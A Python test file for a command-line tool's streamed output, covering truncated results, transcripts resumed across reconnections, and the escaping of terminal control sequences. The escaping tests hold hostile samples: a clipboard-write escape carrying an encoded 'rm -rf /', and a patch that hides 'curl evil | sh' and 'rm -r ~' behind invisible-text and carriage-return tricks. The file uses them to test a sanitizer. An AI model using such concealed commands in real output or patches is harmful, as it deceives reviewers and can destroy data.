"""Streamed output: every byte once, in order, what is missing counted, and no terminal driven."""

from __future__ import annotations

import re
import unicodedata
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from nsm.cli.streams.escapes import Harmless, harmless, uncovered
from nsm.cli.streams.live_output import Live, Rest
from nsm.cli.streams.resumed_transcript import Continued
from nsm.client.retry import RECONNECTED
from nsm.wire.messages import Event
from sandbox.capture import Capture, Spills
from sandbox.limits import Limits

if TYPE_CHECKING:
    from pathlib import Path

WHOLE = "".join(f"{number}\n" for number in range(100))
HEAD, TAIL = WHOLE[:50], WHOLE[-60:]
OMITTED = len(WHOLE) - len(HEAD) - len(TAIL)


def shown(text: str, *, pieces: int = 1) -> Live:
    live = Live()
    step = max(1, len(text) // pieces)
    for start in range(0, len(text), step):
        piece = text[start : start + step]
        assert live.take(piece, skipped=False) == piece
    return live


def mark(omitted_bytes: int) -> str:
    """Mark that `sandbox.capture.Capture` puts between head and tail; tested below."""
    return f"\n[... {omitted_bytes} bytes left out ...]\n"


@pytest.mark.parametrize(
    ("streamed", "rest"),
    [
        ("", Rest(HEAD + mark(OMITTED) + TAIL, OMITTED)),
        (WHOLE[:20], Rest(HEAD[20:] + mark(OMITTED) + TAIL, OMITTED)),
        (HEAD, Rest(mark(OMITTED) + TAIL, OMITTED)),
        (WHOLE[: len(HEAD) + 10], Rest(mark(OMITTED - 10) + TAIL, OMITTED - 10)),
        (WHOLE[: -len(TAIL)], Rest(TAIL, 0)),
        (WHOLE[:-10], Rest(WHOLE[-10:], 0)),
        (WHOLE, Rest("", 0)),
    ],
    ids=["nothing", "part of head", "head", "into the gap", "up to tail", "into tail", "all"],
)
def test_a_truncated_result_brings_the_rest(streamed: str, rest: Rest) -> None:
    assert shown(streamed, pieces=4).rest(HEAD + mark(OMITTED) + TAIL, OMITTED) == rest


def test_code_that_prints_a_mark_loses_nothing() -> None:
    live = Live()
    whole = "a" + mark(7) + "b" + mark(8)
    printed = live.take(whole, skipped=False)
    assert printed == "a"
    assert printed + live.rest(whole, 0).text == whole
    assert live.rest(whole, 8).left_out_bytes == 8


def test_output_is_not_repeated_if_counting_fails() -> None:
    """Bytes that were no UTF-8 have other lengths in text than in the output."""
    final = "head" + mark(300) + "x" * 100 + "tail"
    rest = shown("head" + "y" * 300 + "z" * 90).rest(final, 300)
    assert rest == Rest("", 14)


def test_a_result_that_contradicts_what_was_shown_repeats_nothing() -> None:
    assert shown("abc").rest("xyz", 0) == Rest("", 0)
    assert shown("abc").rest("vwxyz", 0) == Rest("", 2)
    assert shown("abc").rest("", 0) == Rest("", 0)


@pytest.mark.parametrize("streamed", [0, 15, 40, 155, 200])
def test_output_cut_by_the_agent_is_shown_once(tmp_path: Path, streamed: int) -> None:
    """The agent's own capture, with room for 60 bytes and characters torn at both edges."""
    whole = "".join(f"{number}ü€🎈" for number in range(10, 40))
    capture = Capture("stdout", Spills(str(tmp_path)), Limits({"reply_bytes": 60}))
    capture.write(whole.encode())
    final, truncated = capture.result()
    assert truncated is not None
    rest = shown(whole[:streamed]).rest(final, truncated["omitted_bytes"])
    printed = whole[:streamed] + rest.text
    if rest.left_out_bytes:
        begin, _, end = printed.partition(mark(rest.left_out_bytes))
        assert whole.startswith(begin)
        assert whole.endswith(end)
        assert len((begin + end).encode()) + rest.left_out_bytes == len(whole.encode())
    else:
        assert printed == whole


@given(st.data())
def test_every_byte_is_shown_once_but_for_one_counted_gap(data: st.DataObject) -> None:
    """An alphabet of two letters makes head, gap and tail look alike."""
    whole = data.draw(st.text("ab", max_size=120))
    head = data.draw(st.integers(0, len(whole)))
    tail = data.draw(st.integers(head, len(whole)))
    edges = sorted(data.draw(st.lists(st.integers(0, len(whole)), max_size=5)))
    behind = data.draw(st.integers(0, 5))
    live = Live()
    printed = ""
    start = 0
    for number, end in enumerate(edges):
        printed += live.take(whole[start:end], skipped=number == behind)
        start = end
    between = mark(tail - head) if tail > head else ""
    rest = live.rest(whole[:head] + between + whole[tail:], tail - head)
    printed += rest.text
    gap = rest.left_out_bytes
    place = len(printed.partition("\n")[0])
    between = mark(gap) if gap else ""
    assert printed == whole[:place] + between + whole[place + gap :]


# A transcript over several connections: each entry once, whatever the next supervisor knows.


SESSION = ("session", {"id": "s-1"})
AGAIN: tuple[str, dict[str, Any]] = (RECONNECTED, {})


def begin(known: str = "x", started_at: float = 1.0) -> tuple[str, dict[str, Any]]:
    return "execution", {"execution_id": known, "started_at": started_at}


Told = tuple[str, dict[str, Any]]


def output(text: str, known: str = "x", **more: Any) -> tuple[str, dict[str, Any]]:
    return "output", {"execution_id": known, "stream": "stdout", "text": text, **more}


def end(known: str = "x") -> tuple[str, dict[str, Any]]:
    return "finished", {"execution_id": known}


def taken(*events: Told) -> list[Told]:
    continued = Continued()
    shown = [continued.take(Event(1, name, data)) for name, data in events]
    return [(event.event, event.data) for event in shown if event is not None]


def test_an_execution_that_has_ended_is_shown_once() -> None:
    first = [SESSION, begin(), output("a"), end()]
    new = [begin("y"), output("b", "y"), end("y")]
    assert taken(*first, AGAIN, *first, *new) == first + new


@pytest.mark.parametrize(
    ("again", "shown"),
    [
        ([output("abc")], []),
        ([output("abcd")], [output("d", skipped=0)]),
        ([output("a"), output("bcde"), output("f")], [output("de", skipped=0), output("f")]),
        ([output("de", skipped=3)], [output("de", skipped=0)]),
        ([output("e", skipped=4)], [output("e", skipped=1)]),
    ],
)
def test_the_same_transcript_goes_on_where_it_was(again: list[Any], shown: list[Any]) -> None:
    first = [SESSION, begin(), output("ab"), output("c")]
    assert taken(*first, AGAIN, SESSION, begin(), *again) == first + shown


def test_another_transcript_has_what_was_printed_since() -> None:
    first = [SESSION, begin(), output("abc")]
    later = [output("def"), end()]
    assert taken(*first, AGAIN, SESSION, begin(started_at=9.0), *later) == first + later


def test_a_third_telling_counts_from_the_second() -> None:
    first = [SESSION, begin(), output("abc")]
    second = [SESSION, begin(started_at=9.0), output("de")]
    third = [SESSION, begin(started_at=9.0), output("def")]
    assert taken(*first, AGAIN, *second, AGAIN, *third) == [
        *first,
        output("de"),
        output("f", skipped=0),
    ]


def test_another_session_is_another() -> None:
    first = [SESSION, begin(), end()]
    other = [("session", {"id": "s-2"}), begin(), end()]
    assert taken(*first, AGAIN, *other) == first + other


def test_jobs_are_shown_once() -> None:
    started: Told = ("job", {"job": "1"})
    over: Told = ("job_ended", {"job": "1"})
    first = [SESSION, started, begin()]
    assert taken(*first, AGAIN, *first, over, AGAIN, *first, over) == [*first, over]
    other: Told = ("session", {"id": "s-2"})
    assert taken(*first, AGAIN, other, started) == [*first, other, started]


# Characters that reach a terminal.


COLOUR = re.compile(r"\x1b\[[0-9;:]*m")


@pytest.mark.parametrize(
    "text",
    [
        "plain\n\tindented\r\n",
        "10 %\r20 %\r",
        "日本語 e\u0301 👩\u200d💻 \u00a0",
        "\x1b[1;31mred\x1b[0m and \x1b[38:2::1:2:3mtrue\x1b[m",
    ],
)
def test_text_and_colours_stay(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b]0;title\x07", r"\x1b]0;title\x07"),
        ("\x1b]52;c;cm0gLXJmIC8=\x1b\\", "\\x1b]52;c;cm0gLXJmIC8=\\x1b\\"),
        ("\x1b[2J\x1b[H", r"\x1b[2J\x1b[H"),
        ("\x1b[6n\x1bP$q\x1b\\", "\\x1b[6n\\x1bP$q\\x1b\\"),
        ("\x1b[?1049h", r"\x1b[?1049h"),
        ("\x9b2J", r"\x9b2J"),
        ("a\x08b\x7f\x00", r"a\x08b\x7f\x00"),
        ("access\u202eresu\u2066", r"access\u202eresu\u2066"),
        ("\x1b[31;" + "1;" * 40 + "m", r"\x1b[31;" + "1;" * 40 + "m"),
        ("\ud800", r"\ud800"),
    ],
)
def test_sequences_that_drive_a_terminal_are_made_visible(text: str, shown: str) -> None:
    assert harmless(text) == shown


def test_a_sequence_in_pieces() -> None:
    stream = Harmless()
    assert [stream.take(piece) for piece in ("a\x1b", "[3", "1mb", "\x1b[")] == [
        "a",
        "",
        "\x1b[31mb",
        "",
    ]
    assert stream.end() == "\\x1b[\x1b[0m"
    assert stream.end() == ""


@given(st.lists(st.text(st.sampled_from("a\x1b[]0;38:m\n\x07\x9b\u202e"))))
def test_pieces_make_no_difference(pieces: list[str]) -> None:
    stream = Harmless()
    assert "".join(map(stream.take, pieces)) + stream.end() == harmless("".join(pieces))


@given(st.text())
def test_a_terminal_acts_on_no_character_but_colours(text: str) -> None:
    for character in COLOUR.sub("", harmless(text)):
        kind = unicodedata.category(character)
        assert kind != "Cc" or character in "\n\t\r", ascii(character)
        assert unicodedata.bidirectional(character) not in {"LRE", "RLE", "LRO", "RLO", "PDF"}
        assert unicodedata.bidirectional(character) not in {"LRI", "RLI", "FSI", "PDI"}


def test_a_patch_to_be_judged_hides_no_character() -> None:
    text = "+\x1b[8mcurl evil | sh\x1b[0m\t# tidy\n+rm -r ~\r+print(1)\n é \u200b\x9b2J"
    assert uncovered(text) == (
        "+\\x1b[8mcurl evil | sh\\x1b[0m\t# tidy\n+rm -r ~\\r+print(1)\n é \\u200b\\x9b2J"
    )
